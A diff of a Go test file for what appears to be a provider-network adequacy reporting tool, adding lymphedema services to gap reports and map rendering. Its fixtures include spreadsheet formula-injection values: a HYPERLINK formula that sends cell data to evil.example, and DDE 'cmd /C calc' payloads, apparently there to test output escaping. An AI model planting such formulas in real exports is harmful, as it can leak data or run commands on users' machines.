@@ -35,8 +35,9 @@ const hostileMembers = `"=HYPERLINK(""http://evil.example/?""&A1,""x"")",64.50,-
 var hostileNames = []string{"=cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "+1", "  =1+1"}
 
 // sampleReport runs a gap report over the sample members, two bad rows and
-// the hostile members, with the sample roster's non-participating
-// providers as candidates (named with hostileNames).
+// the hostile members, for the disciplines and lymphedema therapy, with
+// the sample roster's non-participating providers as candidates (named
+// with hostileNames).
 func sampleReport(t *testing.T) (*adequacy.Engine, *adequacy.GapReport, []adequacy.RecruitPick, []Rejected) {
 	t.Helper()
 	eng, _, err := data.NewEngine(data.Setup{})
@@ -47,7 +48,7 @@ func sampleReport(t *testing.T) (*adequacy.Engine, *adequacy.GapReport, []adequa
 	if err != nil {
 		t.Fatal(err)
 	}
-	n, err := adequacy.NewNetwork(roster, nil)
+	n, err := eng.NewNetwork(roster)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -63,7 +64,7 @@ func sampleReport(t *testing.T) (*adequacy.Engine, *adequacy.GapReport, []adequa
 		t.Fatal(err)
 	}
 	asOf, _ := adequacy.ParseDate("2026-11-24")
-	rep, err := eng.Gap(context.Background(), ms, adequacy.GapOptions{AsOf: asOf, Detail: true})
+	rep, err := eng.Gap(context.Background(), ms, adequacy.GapOptions{AsOf: asOf, Detail: true, Services: []string{"lymphedema"}})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -144,7 +145,8 @@ func mustRead(t *testing.T, p string) []byte {
 func TestMapRenders(t *testing.T) {
 	eng, rep, _, _ := sampleReport(t)
 	l := layout(rep, eng.Map)
-	for _, d := range rep.Disciplines {
+	for _, s := range rep.Subjects {
+		d := s.Key()
 		var b bytes.Buffer
 		if err := RenderMap(&b, rep, d, eng.Map, nil); err != nil {
 			t.Fatal(err)
@@ -152,7 +154,7 @@ func TestMapRenders(t *testing.T) {
 		want := map[string]int{} // shade class → rings
 		rows := map[string]adequacy.CountyRow{}
 		for _, r := range rep.Counties {
-			if r.Discipline == d {
+			if r.Key() == d {
 				rows[r.County.FIPS] = r
 			}
 		}
@@ -217,7 +219,7 @@ func TestMapRenders(t *testing.T) {
 		if outlines == 0 {
 			t.Errorf("%s map has no state outlines", d)
 		}
-		if !strings.Contains(title, "cms-ma 2026.1") || !strings.Contains(title, "sample-2026.11") {
+		if !strings.Contains(title, "cms-ma 2026.1") || !strings.Contains(title, "sample-2026.11") || !strings.HasPrefix(title, s.Name()+" access") {
 			t.Errorf("%s map title %q lacks the versions", d, title)
 		}
 	}
@@ -255,7 +257,7 @@ func TestGeoJSONAndHTML(t *testing.T) {
 	if fc.Type != "FeatureCollection" || fc.Profile != "cms-ma" || counties != len(want) || cells != len(rep.Cells) {
 		t.Errorf("geojson: %s %s, %d counties (want %d), %d cells (want %d)", fc.Type, fc.Profile, counties, len(want), cells, len(rep.Cells))
 	}
-	if err := WriteMaps(dir, rep, eng.Map, map[adequacy.Discipline][]geo.Point{}); err != nil {
+	if err := WriteMaps(dir, rep, eng.Map, map[string][]geo.Point{}); err != nil {
 		t.Fatal(err)
 	}
 	if err := WriteHTML(dir, Page{Report: rep, Shapes: eng.Map, Picks: picks, Rejected: len(rej)}); err != nil {
